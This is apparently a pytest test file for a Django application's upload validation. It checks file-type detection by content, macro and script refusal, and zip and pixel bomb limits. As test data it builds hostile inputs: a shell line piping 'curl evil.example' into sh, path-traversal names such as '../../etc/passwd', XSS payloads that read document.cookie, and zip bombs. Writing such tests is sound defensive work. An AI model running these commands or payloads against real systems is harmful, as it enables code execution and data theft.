"""Upload checks: names, the masterplan PDF, the evidence inspector (by content only) and the upload handler.

Every hostile file is built here, in the test, so no binary fixture is committed.
"""

from __future__ import annotations

import hashlib
import io
import struct
import warnings
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.http import HttpRequest, JsonResponse
from django.test import Client, override_settings
from django.urls import path, reverse
from openpyxl import Workbook
from PIL import Image

from common.uploads import CHUNK_SIZE, KINDS, Inspected, clean_filename, inspect_upload, validate_pdf
from tests.conftest import PDF_BYTES, World, client_for

PDF = PDF_BYTES  # PDFs are opened with pypdf: a test PDF must be one a PDF library can open


def padded_pdf(filler: bytes) -> bytes:
    """PDF with `filler` between its objects and its cross-reference table (whose offset moves with it)."""
    xref_at = PDF.index(b"\nxref\n") + 1
    padded = PDF.replace(b"\nxref\n", b"\n" + filler + b"\nxref\n")
    return padded.replace(b"startxref\n%d" % xref_at, b"startxref\n%d" % (xref_at + len(filler) + 1))


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\Perbup 47.pdf", "Perbup 47.pdf"),
        ("evil\x00name\r\n.pdf", "evilname.pdf"),
        ("a" * 500 + ".pdf", "a" * 146 + ".pdf"),
        ("", "file"),
        ("<script>.pdf", "_script_.pdf"),
    ],
)
def test_clean_filename_makes_names_harmless(raw: str, expected: str) -> None:
    assert clean_filename(raw) == expected


def test_validate_pdf_accepts_a_pdf_whatever_its_name() -> None:
    validate_pdf(SimpleUploadedFile("dokumen.bin", PDF, content_type="application/octet-stream"))


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"MZ\x90\x00" + b"\x00" * 100, "bukan dokumen PDF"),
        (b"<html><script>alert(1)</script></html>", "bukan dokumen PDF"),
        (b"", "kosong"),
    ],
)
def test_validate_pdf_refuses_by_content_with_the_file_name(content: bytes, message: str) -> None:
    with pytest.raises(ValidationError) as caught:
        validate_pdf(SimpleUploadedFile("Perbup.pdf", content, content_type="application/pdf"))
    assert message in caught.value.messages[0]
    assert "Perbup.pdf" in caught.value.messages[0]


@override_settings(MAX_UPLOAD_SIZE=1024)
def test_validate_pdf_refuses_oversize() -> None:
    with pytest.raises(ValidationError, match="batasnya"):
        validate_pdf(SimpleUploadedFile("besar.pdf", PDF + b"0" * 2048))


def test_masterplan_document_downloads_as_an_attachment_for_members_only(world: World, settings, tmp_path) -> None:
    settings.MEDIA_ROOT = tmp_path
    world.masterplan.document.save("whatever.pdf", SimpleUploadedFile("x.pdf", PDF))
    response = client_for(world.operator_b).get(reverse("masterplan:masterplan_document"))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == PDF
    assert world.masterplan.document.name.startswith(f"masterplan/{world.region.pk}/")
    assert "whatever" not in world.masterplan.document.name
    assert client_for(world.outsider).get(reverse("masterplan:masterplan_document")).status_code == 404


# --- Building files: real formats made on the spot, and hostile ones crafted byte by byte.

OOXML_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="%s"/></Relationships>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def content_types(main_part: str, main_type: str, *, vba: bool = False) -> bytes:
    vba_default = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if vba else ""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{vba_default}'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/></Types>'
    ).encode()


def make_zip(parts: dict[str, bytes], *, stored_first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:  # OpenDocument wants `mimetype` first and uncompressed
            archive.writestr(zipfile.ZipInfo(stored_first), parts[stored_first], compress_type=zipfile.ZIP_STORED)
        for name, data in parts.items():
            if name != stored_first:
                archive.writestr(name, data)
    return buffer.getvalue()


def make_docx(*, macro: bool = False) -> bytes:
    parts = {
        "[Content_Types].xml": content_types("word/document.xml", DOCM_MAIN if macro else DOCX_MAIN, vba=macro),
        "_rels/.rels": OOXML_RELS % b"word/document.xml",
        "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Notulen rapat</w:t></w:r></w:p></w:body></w:document>',
    }
    if macro:
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    return make_zip(parts)


def make_pptx() -> bytes:
    return make_zip(
        {
            "[Content_Types].xml": content_types("ppt/presentation.xml", PPTX_MAIN),
            "_rels/.rels": OOXML_RELS % b"ppt/presentation.xml",
            "ppt/presentation.xml": b'<?xml version="1.0"?><p:presentation xmlns:p="http://schemas.openxmlformats'
            b'.org/presentationml/2006/main"/>',
        }
    )


def make_xlsx() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Indikator", "Nilai"])
    sheet.append(["Persentase layanan daring", 87.5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def make_xlsm(*, vba: bool = True, macro_type: bool = True) -> bytes:
    """A real openpyxl workbook turned into a macro-enabled one (either signal on its own must refuse it)."""
    parts = {}
    with zipfile.ZipFile(io.BytesIO(make_xlsx())) as archive:
        for info in archive.infolist():
            parts[info.filename] = archive.read(info)
    if macro_type:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(XLSX_MAIN.encode(), XLSM_MAIN.encode())
        assert XLSM_MAIN.encode() in parts["[Content_Types].xml"]
    if vba:
        parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    return make_zip(parts)


def make_odf(mimetype: str, **extra: bytes) -> bytes:
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        b'opendocument:xmlns:manifest:1.0" manifest:version="1.2"/>'
    )
    parts = {"mimetype": mimetype.encode(), "content.xml": b"<office:document-content/>"}
    parts["META-INF/manifest.xml"] = manifest
    parts.update({name.replace("__", "/"): data for name, data in extra.items()})
    return make_zip(parts, stored_first="mimetype")


def make_image(pillow_format: str, size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, pillow_format)
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims `width` x `height` pixels: the pixel bomb, in 60-odd bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00")) + chunk(b"IEND", b"")


def zip_of_zeros(megabytes: int) -> bytes:
    """One entry of `megabytes` MB of zeros, written in 1 MB steps: the zip is ~1 KB per MB and built fast."""
    buffer = io.BytesIO()
    block = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/workbook.xml", "w", force_zip64=True) as entry,
    ):
        for _ in range(megabytes):
            entry.write(block)
    return buffer.getvalue()


def as_zip64(data: bytes) -> bytes:
    """Rewrite a zip's end record the Zip64 way (as 7-Zip or Java may write it), pointing at a Zip64 record."""
    at = data.rindex(b"PK\x05\x06")
    entries, cd_size, cd_offset = struct.unpack("<HII", data[at + 10 : at + 20])
    record = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, cd_size, cd_offset)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return data[:at] + record + locator + end


def upload_of(content: bytes, name: str = "bukti.bin", content_type: str = "application/octet-stream") -> UploadedFile:
    # The browser's content type is deliberately useless: the decision must come from the bytes.
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal(content: bytes, name: str = "bukti.bin") -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        inspect_upload(upload_of(content, name))
    return caught.value


CSV_ID = "No;Perangkat Daerah;Indikator;Capaian\r\n1;Dinas Komunikasi, Informatika;Layanan “daring”;87,5%\r\n"
MZ_HEADER = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\xb8" + b"\x00" * 47
HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/').then(r => r.text())</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'


# --- inspect_upload: every allowed type, whatever it is called.

ACCEPTED = [
    pytest.param("Perbup 47.pdf", PDF, "pdf", id="pdf"),
    pytest.param("scan.pdf", b"\r\n\x00junk from a scanner\n" + PDF, "pdf", id="pdf-with-leading-junk"),
    pytest.param("foto.jpg", make_image("JPEG"), "jpeg", id="jpeg"),
    pytest.param("foto.png", make_image("PNG"), "png", id="png"),
    pytest.param("capaian.xlsx", make_xlsx(), "xlsx", id="xlsx-openpyxl"),
    pytest.param("notulen.docx", make_docx(), "docx", id="docx"),
    pytest.param("paparan.pptx", make_pptx(), "pptx", id="pptx"),
    pytest.param("notulen.odt", make_odf("application/vnd.oasis.opendocument.text"), "odt", id="odt"),
    pytest.param("capaian.ods", make_odf("application/vnd.oasis.opendocument.spreadsheet"), "ods", id="ods"),
    pytest.param("capaian.csv", CSV_ID.encode(), "csv", id="csv-utf8-semicolon"),
    pytest.param("capaian.csv", "\ufeff".encode() + CSV_ID.replace(";", ",").encode(), "csv", id="csv-utf8-bom"),
    pytest.param(
        "capaian.csv", "Nama,Jabatan\nSiti Ñurhayati,Kepala Seksi – TIK\n".encode("cp1252"), "csv", id="csv-cp1252"
    ),
    pytest.param("opd.csv", b"Dinas Kesehatan\nDinas Pendidikan\nBappedalitbang\n", "csv", id="csv-one-column"),
    pytest.param("kode.csv", b"MZ-01,Martapura\nMZ-02,Gambut\n", "csv", id="csv-starting-with-MZ-text"),
    pytest.param("notulen.docx", as_zip64(make_docx()), "docx", id="docx-with-zip64-end-record"),
]


@pytest.mark.parametrize(("name", "content", "kind"), ACCEPTED)
def test_it_accepts_each_allowed_type_by_its_content(name: str, content: bytes, kind: str) -> None:
    inspected = inspect_upload(upload_of(content, name))
    assert inspected == Inspected(
        kind=kind,
        content_type=KINDS[kind][0],
        extension=KINDS[kind][1],
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        original_name=name,
    )


@pytest.mark.parametrize(("name", "content", "kind"), ACCEPTED)
def test_it_ignores_the_extension_and_the_browsers_content_type(name: str, content: bytes, kind: str) -> None:
    upload = upload_of(content, "lampiran.exe", content_type="application/x-msdownload")
    assert inspect_upload(upload).kind == kind


def test_it_keeps_only_the_last_part_of_a_path_as_the_name() -> None:
    inspected = inspect_upload(upload_of(PDF, "../../etc/passwd"))
    assert (inspected.kind, inspected.original_name) == ("pdf", "passwd")


def test_it_cleans_a_name_with_control_characters_and_500_characters() -> None:
    inspected = inspect_upload(upload_of(PDF, "lapor\x00an\r\n\x1b[31m" + "x" * 500 + ".pdf"))
    assert inspected.original_name == "laporan_31m" + "x" * 135 + ".pdf"
    assert len(inspected.original_name) == 150


def test_it_rewinds_the_file_so_it_can_be_saved() -> None:
    upload = upload_of(make_docx(), "notulen.docx")
    inspect_upload(upload)
    assert upload.tell() == 0
    assert upload.read() == make_docx()


def test_it_reuses_the_hash_computed_by_the_upload_handler() -> None:
    upload = upload_of(PDF, "a.pdf")
    upload.sha256 = "ab" * 32  # type: ignore[attr-defined]
    assert inspect_upload(upload).sha256 == "ab" * 32


class ReadSpy(io.BytesIO):
    """Records every read() size, to prove a file is never swallowed whole."""

    def __init__(self, data: bytes) -> None:
        super().__init__(data)
        self.reads: list[int | None] = []

    def read(self, size: int | None = -1) -> bytes:
        self.reads.append(size)
        return super().read(size)


@pytest.mark.parametrize(
    "content",
    [padded_pdf(b"%" * 3_000_000), (CSV_ID * 40_000).encode()],
    ids=["pdf-3mb", "csv-3mb"],
)
def test_it_reads_in_chunks_never_the_whole_file(content: bytes, settings) -> None:
    settings.MAX_UPLOAD_SIZE = 10 * 1024 * 1024
    spy = ReadSpy(content)
    inspect_upload(UploadedFile(spy, name="besar.bin", size=len(content)))
    assert spy.reads
    assert all(size is not None and 0 < size <= CHUNK_SIZE for size in spy.reads)


# --- inspect_upload: every refusal names the (cleaned) file and says why, with a code.

REFUSED = [
    pytest.param("evil.pdf", MZ_HEADER + PDF, "executable", id="windows-exe-renamed-pdf"),
    pytest.param("laporan.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, "executable", id="elf"),
    pytest.param("laporan.pdf", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24, "executable", id="mach-o"),
    pytest.param("Data.csv", b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + b"\x00" * 24, "executable", id="java-class"),
    pytest.param("data.csv", b"#!/bin/sh\ncurl evil.example | sh\n", "executable", id="shebang-script"),
    pytest.param("capaian.xlsx", make_xlsm(), "macro", id="xlsm"),
    pytest.param("capaian.xlsx", make_xlsm(macro_type=False), "macro", id="xlsx-with-vbaProject-only"),
    pytest.param("capaian.xlsx", make_xlsm(vba=False), "macro", id="xlsx-with-macroEnabled-type-only"),
    pytest.param("notulen.docx", make_docx(macro=True), "macro", id="docm"),
    pytest.param(
        "notulen.odt",
        make_odf("application/vnd.oasis.opendocument.text", Basic__Standard__Module1_xml=b"<script:module/>"),
        "macro",
        id="odt-with-basic-macros",
    ),
    pytest.param("report.csv", HTML, "script", id="html-named-csv"),
    pytest.param("grafik.svg", SVG, "script", id="svg-with-script"),
    pytest.param("data.csv", b'<?xml version="1.0"?><x:y xmlns:x="urn:x"/>', "script", id="xml"),
    pytest.param("data.csv", b"a,b\n" * 30_000 + b"c,<ScRiPt>alert(1)</script>\n", "script", id="script-deep-in-csv"),
    pytest.param(
        "data.csv", b"a" * (CHUNK_SIZE - 4) + b"<script>" + b"\n1,2\n", "script", id="script-across-chunk-edge"
    ),
    pytest.param("p.pdf", b"<html><script>alert(1)</script>" + PDF, "script", id="html-before-pdf-header"),
    pytest.param("foto.png", png_claiming(100_000, 100_000), "pixel_bomb", id="png-10-gigapixels"),
    pytest.param("foto.png", png_claiming(10_000, 10_000), "pixel_bomb", id="png-over-pillows-warning"),
    pytest.param("foto.png", png_claiming(8_000, 6_000), "pixel_bomb", id="png-over-our-limit"),
    pytest.param("foto.png", b"\x89PNG\r\n\x1a\n" + b"garbage" * 20, "corrupt", id="png-garbage"),
    pytest.param("foto.png", make_image("PNG")[:-20] + b"\x00" * 20, "corrupt", id="png-bad-crc"),
    pytest.param("foto.jpg", b"\xff\xd8\xff" + b"\x00" * 100, "corrupt", id="jpeg-garbage"),
    pytest.param("a.xlsx", b"PK\x03\x04" + b"\x00" * 100, "corrupt", id="zip-truncated"),
    pytest.param("a.xlsx", make_zip({"readme.txt": b"hello"}), "not_allowed", id="plain-zip"),
    pytest.param("a.jar", make_zip({"META-INF/MANIFEST.MF": b"Main-Class: X\n"}), "not_allowed", id="jar"),
    pytest.param("lama.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "not_allowed", id="ole2-doc"),
    pytest.param("data.csv", "a,b\n1,2\n".encode("utf-16"), "not_allowed", id="csv-utf16"),
    pytest.param("data.csv", b"a,b\n\x81\xff,\x90\n", "not_allowed", id="neither-utf8-nor-cp1252"),
    pytest.param("data.csv", b"just one line", "not_allowed", id="one-value-text"),
    pytest.param("data.bin", bytes(range(256)) * 4, "not_allowed", id="binary"),
]


@pytest.mark.parametrize(("name", "content", "code"), REFUSED)
def test_it_refuses_by_content_naming_the_file(name: str, content: bytes, code: str) -> None:
    error = refusal(content, name)
    assert error.code == code
    assert f"“{name}”" in error.messages[0]


def test_it_refuses_an_empty_file() -> None:
    error = refusal(b"", "kosong.pdf")
    assert (error.code, error.messages) == ("empty", ["Berkas “kosong.pdf” kosong."])


def test_it_refuses_an_oversize_file_with_both_sizes(settings) -> None:
    settings.MAX_UPLOAD_SIZE = 1024
    error = refusal(PDF + b"%" * (4096 - len(PDF)), "besar.pdf")
    assert error.code == "too_large"
    assert error.messages == ["Berkas “besar.pdf” berukuran 4,0\xa0KB; batasnya 1,0\xa0KB."]


def test_it_names_a_refused_file_by_its_cleaned_name() -> None:
    error = refusal(HTML, "../../\x1b[2Jlaporan\r\n.csv")
    assert error.code == "script"
    assert "“_2Jlaporan.csv”" in error.messages[0]


def test_it_refuses_a_pixel_bomb_under_a_lowered_limit(settings) -> None:
    settings.MAX_IMAGE_PIXELS = 100
    assert refusal(make_image("JPEG", (20, 20)), "foto.jpg").code == "pixel_bomb"
    assert refusal(make_image("PNG", (20, 20)), "foto.png").code == "pixel_bomb"


# --- Zip bombs and hostile archives: refused from the directory, before anything unpacks them.


def test_it_refuses_300_mb_of_zeros_in_a_300_kb_zip() -> None:
    bomb = zip_of_zeros(300)
    assert len(bomb) < 400_000
    assert refusal(bomb, "capaian.xlsx").code == "zip_bomb"


def test_it_refuses_a_single_entry_compressed_more_than_100_to_1() -> None:
    assert refusal(zip_of_zeros(2), "capaian.xlsx").code == "zip_bomb"


def test_it_refuses_parts_adding_up_past_the_unzipped_limit(settings) -> None:
    settings.MAX_UNZIPPED_SIZE = 64 * 1024
    docx = make_zip(
        {
            "[Content_Types].xml": content_types("word/document.xml", DOCX_MAIN),
            "word/document.xml": b"<w:document/>",
            "word/media/image1.png": bytes(range(256)) * 300,  # 77 KB, only ~40:1
        }
    )
    assert refusal(docx, "notulen.docx").code == "zip_bomb"


def test_it_refuses_more_than_2000_entries() -> None:
    parts = {f"word/media/{n}.xml": b"" for n in range(2001)}
    parts["[Content_Types].xml"] = content_types("word/document.xml", DOCX_MAIN)
    parts["word/document.xml"] = b"<w:document/>"
    assert refusal(make_zip(parts), "notulen.docx").code == "zip_bomb"


def test_it_refuses_a_huge_central_directory_before_zipfile_loads_it() -> None:
    parts = {f"{n:04d}" + "x" * 3000: b"" for n in range(800)}  # 800 entries but a 2.4 MB directory
    assert refusal(make_zip(parts), "notulen.docx").code == "zip_bomb"


@pytest.mark.parametrize(
    "member",
    ["../../evil.xml", "/etc/cron.d/evil", "C:/Windows/evil.xml", "word\\..\\..\\evil.xml", "a/" * 20 + "deep.xml"],
)
def test_it_refuses_unsafe_paths_inside_an_archive(member: str) -> None:
    docx = make_zip(
        {
            "[Content_Types].xml": content_types("word/document.xml", DOCX_MAIN),
            "word/document.xml": b"<w:document/>",
            member: b"x",
        }
    )
    error = refusal(docx, "notulen.docx")
    assert error.code == "unsafe_path"
    assert "“notulen.docx”" in error.messages[0]


def test_it_refuses_an_archive_with_two_parts_of_one_name() -> None:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate we want
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", content_types("word/document.xml", DOCX_MAIN))
            archive.writestr("word/document.xml", b"<w:document/>")
            archive.writestr("word/document.xml", b"<w:document>other</w:document>")
    assert refusal(buffer.getvalue(), "notulen.docx").code == "corrupt"


# --- validate_pdf: now a thin layer over inspect_upload.


@pytest.mark.parametrize(
    "content",
    [make_docx(), make_image("PNG"), CSV_ID.encode(), b"\x7fELF" + b"\x00" * 60],
    ids=["docx", "png", "csv", "elf"],
)
def test_validate_pdf_refuses_every_other_type_as_not_a_pdf(content: bytes) -> None:
    with pytest.raises(ValidationError) as caught:
        validate_pdf(upload_of(content, "Perbup.pdf"))
    assert caught.value.code == "not_pdf"
    assert caught.value.messages == ["Berkas “Perbup.pdf” bukan dokumen PDF."]


# --- HashingUploadHandler, through the whole middleware stack.


def echo_view(request: HttpRequest) -> JsonResponse:
    files = {
        field: [
            {"name": f.name, "size": f.size, "sha256": getattr(f, "sha256", None)} for f in request.FILES.getlist(field)
        ]
        for field in request.FILES
    }
    return JsonResponse(
        {"files": files, "title": request.POST.get("title"), "errors": getattr(request, "upload_errors", None)}
    )


urlpatterns = [path("echo/", echo_view)]


def file_of(name: str, size: int, fill: bytes = b"%") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, PDF + fill * (size - len(PDF)))


@pytest.fixture
def upload_dir(settings, tmp_path: Path) -> Path:
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    return tmp_path


@pytest.mark.urls("tests.test_uploads")
def test_handler_skips_an_oversize_file_names_it_and_keeps_the_rest(db: None, settings, upload_dir: Path) -> None:
    settings.MAX_UPLOAD_SIZE = 100_000
    small, big = file_of("kecil.pdf", 10_000, b"a"), file_of("besar.pdf", 300_000)
    response = Client().post("/echo/", {"title": "Notulen", "files": [big, small]})
    data = response.json()
    assert data["title"] == "Notulen"
    small_bytes = PDF + b"a" * (10_000 - len(PDF))
    assert data["files"] == {
        "files": [{"name": "kecil.pdf", "size": 10_000, "sha256": hashlib.sha256(small_bytes).hexdigest()}]
    }
    assert len(data["errors"]) == 1
    assert "“besar.pdf”" in data["errors"][0]
    assert list(upload_dir.iterdir()) == []  # the skipped file's and the kept file's temporary files are gone


@pytest.mark.urls("tests.test_uploads")
def test_handler_skips_files_past_the_request_total_but_not_smaller_ones_after(
    db: None, settings, upload_dir: Path
) -> None:
    settings.MAX_UPLOAD_SIZE = 200_000
    settings.MAX_UPLOAD_REQUEST_SIZE = 250_000
    files = [file_of("a.pdf", 100_000), file_of("b.pdf", 100_000), file_of("c.pdf", 100_000), file_of("d.pdf", 10_000)]
    data = Client().post("/echo/", {"files": files}).json()
    assert [f["name"] for f in data["files"]["files"]] == ["a.pdf", "b.pdf", "d.pdf"]
    assert len(data["errors"]) == 1
    assert "“c.pdf”" in data["errors"][0]


@pytest.mark.urls("tests.test_uploads")
def test_handler_hashes_what_inspect_upload_would(db: None) -> None:
    xlsx = make_xlsx()
    data = Client().post("/echo/", {"files": SimpleUploadedFile("capaian.xlsx", xlsx)}).json()
    assert data["errors"] == []
    assert data["files"]["files"][0]["sha256"] == inspect_upload(upload_of(xlsx, "capaian.xlsx")).sha256


@pytest.mark.urls("tests.test_uploads")
def test_request_without_files_has_no_upload_errors(db: None) -> None:
    assert Client().post("/echo/", {"title": "x"}).json()["errors"] == []
    assert Client().get("/echo/").json()["errors"] is None  # hence getattr(request, "upload_errors", [])
